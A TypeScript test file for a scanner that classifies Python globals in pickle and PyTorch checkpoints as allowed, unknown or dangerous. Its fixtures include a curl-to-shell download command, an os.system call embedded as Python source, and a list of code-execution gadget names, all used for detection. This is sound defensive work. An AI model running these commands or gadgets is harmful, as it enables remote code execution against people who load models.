import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { spawnSync } from 'node:child_process';
import { allowConflicts, allowConflictWarnings, BOUND_METHODS, createPolicy, isBoundMethod, normaliseModule, payloadArgument } from '../../../src/formats/pickle/policy.js';
import { COMPAT_IMPORT_MAPPING, COMPAT_NAME_MAPPING, compatPickleName } from '../../../src/formats/pickle/compat.js';
import { CODE_GADGETS } from '../../../src/formats/pickle/gadgets.js';

const p = createPolicy();
const cls = (m: string, n: string) => p.classify(m, n).cls;

test('PyTorch, NumPy and container globals a checkpoint uses are allowed', () => {
  for (const [m, n] of [
    ['torch._utils', '_rebuild_tensor_v2'],
    ['torch', 'FloatStorage'],
    ['torch', 'bfloat16'],
    ['collections', 'OrderedDict'],
    ['numpy.core.multiarray', '_reconstruct'],
    ['numpy', 'dtype'],
    ['_codecs', 'encode'],
    ['__builtin__', 'set'],
  ]) assert.is(cls(m as string, n as string), 'allowed', `${m}.${n}`);
});

test('Python 2 and private aliases resolve to the real module', () => {
  assert.is(normaliseModule('posix'), 'os');
  assert.is(normaliseModule('nt'), 'os');
  assert.is(normaliseModule('__builtin__'), 'builtins');
  assert.is(normaliseModule('_operator'), 'operator');
  assert.is(cls('posix', 'system'), 'dangerous');
});

test('dangerous capabilities match on module prefix and on the dotted walk', () => {
  assert.is(cls('subprocess', 'Popen'), 'dangerous');
  assert.is(cls('asyncio.subprocess', 'create_subprocess_exec'), 'dangerous');
  assert.is(cls('torch', 'serialization.os.system'), 'dangerous');
  assert.match(p.classify('torch', 'serialization.os.system').reason, /reached through torch\.serialization/);
  assert.is(cls('collections', 'OrderedDict.__init__.__globals__'), 'dangerous');
});

test('a module path segment that merely shares a name with a dangerous module is not an alias', () => {
  // sklearn.utils.io would be the real submodule, not the `io` module.
  assert.is.not(cls('somepkg.io', 'Reader'), 'dangerous');
});

test('unknown globals are unknown and known ML libraries are named', () => {
  assert.is(cls('mypackage', 'Thing'), 'unknown');
  assert.is(cls('sklearn.linear_model._logistic', 'LogisticRegression'), 'library');
  assert.match(p.classify('sklearn.linear_model._logistic', 'LogisticRegression').reason, /scikit-learn/);
});

test('a gadget name never seen before is still caught by what it does', () => {
  assert.is(cls('vendor.tools', 'run_command'), 'dangerous');
  assert.is(cls('vendor.tools', 'spawn_shell'), 'dangerous');
  assert.is(cls('vendor.tools', 'Config'), 'unknown');
});

test('non-identifier names are never allowed', () => {
  assert.is.not(cls('collections', 'OrderedDict\nos'), 'allowed');
});

test('user allow entries accept exact names and module prefixes', () => {
  const q = createPolicy({ allow: ['my.pkg.Config', 'other.*'] });
  assert.is(q.classify('my.pkg', 'Config').cls, 'allowed');
  assert.is(q.classify('other.sub', 'X').cls, 'allowed');
  assert.is(q.classify('otherwise', 'X').cls, 'unknown');
});

test('every code gadget is dangerous, with its own reason, under --allow too', () => {
  const names = new Set<string>();
  const everything = createPolicy({ allow: CODE_GADGETS.map((g) => g.name) });
  for (const g of CODE_GADGETS) {
    assert.ok(g.why.length > 10, `${g.name} says why`);
    assert.not.ok(names.has(g.name), `${g.name} listed once`);
    names.add(g.name);
    const dot = g.name.lastIndexOf('.');
    const [m, n] = dot > 0 ? [g.name.slice(0, dot), g.name.slice(dot + 1)] : [g.name, 'x'];
    for (const pol of [p, everything]) {
      const v = pol.classify(m, n);
      assert.is(v.cls, 'dangerous', g.name);
      assert.ok(v.reason.includes(g.why), `${g.name}: ${v.reason}`);
    }
  }
});

test('the gadgets the bypasses used are malicious wherever they are re-exported', () => {
  for (const [m, n] of [
    ['typing', 'get_type_hints'],
    ['typing', 'ForwardRef'],
    ['typing', '_eval_type'],
    ['dataclasses', '_create_fn'],
    ['torch._utils', '_import_dotted_name'],
    ['torch.utils.model_zoo', 'load_url'],
    ['torch.hub', 'load_state_dict_from_url'],
    ['importlib', 'import_module'],
    ['pkgutil', 'resolve_name'],
    ['pydoc', 'locate'],
    ['operator', 'attrgetter'],
    ['operator', 'methodcaller'],
    ['warnings', '_getcategory'],
    ['xml.sax', 'make_parser'],
    ['numpy.lib.utils', 'safe_eval'],
    ['joblib.memory', 'MemorizedResult'],
    // re-exports: the same function under another module
    ['torch.nn.modules.module', 'get_type_hints'],
    ['vendor.compat', '_import_dotted_name'],
    ['vendor.hub', 'load_url'],
  ]) assert.is(cls(m as string, n as string), 'dangerous', `${m}.${n}`);
  assert.match(p.classify('torch.utils.model_zoo', 'load_url').reason, /fetches a URL and torch\.load/);
});

test('not flagged: the harmless neighbours of gadget modules', () => {
  for (const [m, n] of [
    ['typing', 'Any'],
    ['dataclasses', 'field'],
    ['torch._utils', '_rebuild_tensor_v2'],
    ['warnings', 'catch_warnings'],
  ]) assert.is.not(cls(m as string, n as string), 'dangerous', `${m}.${n}`);
});

test('_compat_pickle is applied exactly as CPython: the allowlist and the dangerous set alike', () => {
  assert.is(cls('__builtin__', 'xrange'), 'allowed');
  assert.is(cls('__builtin__', 'unicode'), 'allowed');
  assert.is(cls('__builtin__', 'long'), 'allowed');
  assert.is(cls('__builtin__', 'basestring'), 'allowed');
  assert.is(cls('copy_reg', '_reconstructor'), 'allowed');
  assert.is(p.classify('__builtin__', 'xrange').qualified, 'builtins.range');
  assert.is(cls('__builtin__', 'eval'), 'dangerous');
  assert.is(p.classify('__builtin__', 'eval').qualified, 'builtins.eval');
  assert.is(cls('__builtin__', 'reduce'), 'dangerous');
  assert.is(p.classify('__builtin__', 'reduce').qualified, 'functools.reduce');
  assert.is(p.classify('__builtin__', 'intern').qualified, 'sys.intern');
  assert.is(cls('__builtin__', 'intern'), 'dangerous');
  assert.is(cls('itertools', 'imap'), 'dangerous'); // builtins.map
  assert.is(cls('commands', 'getoutput'), 'dangerous');
  // IMPORT_MAPPING is looked up by the whole module string, never as a prefix.
  assert.equal(compatPickleName('copy_reg.sub', 'x'), ['copy_reg.sub', 'x']);
});

test('the _compat_pickle tables are the running CPython\'s own', () => {
  const r = spawnSync('/usr/bin/python3', ['-c', 'import _compat_pickle as c, json; print(json.dumps([sorted([list(k), list(v)] for k, v in c.NAME_MAPPING.items()), sorted(c.IMPORT_MAPPING.items())]))'], { encoding: 'utf8' });
  assert.is(r.status, 0, r.stderr);
  const [names, modules] = JSON.parse(r.stdout) as [Array<[[string, string], [string, string]]>, Array<[string, string]>];
  assert.is(COMPAT_NAME_MAPPING.size, names.length);
  for (const [[m, n], to] of names) assert.equal(COMPAT_NAME_MAPPING.get(`${m}\0${n}`), to, `${m}.${n}`);
  assert.is(COMPAT_IMPORT_MAPPING.size, modules.length);
  for (const [m, to] of modules) assert.is(COMPAT_IMPORT_MAPPING.get(m), to, m);
});

test('--allow never clears a dangerous name, and says so', () => {
  for (const [pattern, m, n] of [
    ['os.*', 'os', 'system'],
    ['os.system', 'os', 'system'],
    ['builtins.*', 'builtins', 'eval'],
    ['typing.*', 'typing', 'get_type_hints'],
    ['torch.*', 'torch.hub', 'load'],
  ] as const) {
    const v = createPolicy({ allow: [pattern] }).classify(m, n);
    assert.is(v.cls, 'dangerous', pattern);
    assert.is(v.allowIgnored, pattern);
    assert.match(v.reason, /does not clear a dangerous capability/);
  }
  assert.is(createPolicy({ allow: ['posix.*'] }).classify('posix', 'system').cls, 'dangerous');
  assert.equal(allowConflicts(['os.*']).map((c) => c.pattern), ['os.*']);
  assert.equal(allowConflicts(['os.system', 'builtins.*', 'torch.*']).map((c) => c.pattern), ['os.system', 'builtins.*', 'torch.*']);
  assert.match(allowConflictWarnings(['torch.*'])[0] ?? '', /torch\.jit|torch\.hub/);
});

test('not flagged: --allow of harmless names clears them without a warning', () => {
  assert.equal(allowConflicts(['mypkg.*', 'my.pkg.Config', 'sklearn.linear_model._logistic.LogisticRegression']), []);
  const q = createPolicy({ allow: ['mypkg.*'] });
  assert.is(q.classify('mypkg.models', 'Net').cls, 'allowed');
  assert.is(q.classify('mypkg.models', 'Net').allowIgnored, undefined);
});

const PAYLOADS: Array<[string, string]> = [
  ["vendor.Runner('curl http://198.51.100.7/x | sh')", 'a shell command'],
  ["vendor.Thing(\"__import__('os').system('id')\")", 'Python source'],
  ["vendor.Thing('import os\\nos.system(1)')", 'Python source'],
  ["vendor.Thing('lambda: 0')", 'Python source'],
  ["vendor.Fetch('https://203.0.113.9/model.pt')", 'a URL'],
  ["vendor.Fetch('s3://bucket.invalid/x')", 'a URL'],
  ["vendor.Resolve('os.system')", 'a dotted import path'],
  ["vendor.Resolve('subprocess:check_output')", 'a dotted import path'],
  ["vendor.Resolve(x='pkg.mod.attr')", 'a dotted import path'],
];
for (const [call, kind] of PAYLOADS) {
  test(`payload argument: ${call} carries ${kind}`, () => {
    assert.is(payloadArgument(call)?.kind, kind);
  });
}

test('not flagged: arguments that only look like payloads', () => {
  for (const call of ["vendor.Config('config.json')", "vendor.Tok('tokenizer.model')", "vendor.Thing('hello world')", "vendor.Thing('v1.2.3')", "vendor.Thing('model.layers.0.weight')", 'vendor.Thing(3.5, 7)', "vendor.Thing('important data')"]) {
    assert.is(payloadArgument(call), undefined, call);
  }
});

test('bound methods: only the listed (class, method) pairs', () => {
  assert.ok(isBoundMethod('torch.optim.lr_scheduler.OneCycleLR', '_annealing_cos'));
  assert.not.ok(isBoundMethod('torch.optim.lr_scheduler.OneCycleLR', 'load_state_dict'));
  assert.not.ok(isBoundMethod('torch.optim.sgd.SGD', '_annealing_cos'));
  for (const owner of Object.keys(BOUND_METHODS)) {
    const dot = owner.lastIndexOf('.');
    assert.is(cls(owner.slice(0, dot), owner.slice(dot + 1)), 'allowed', owner);
  }
  assert.is(cls('builtins', 'getattr'), 'dangerous');
});

test.run();
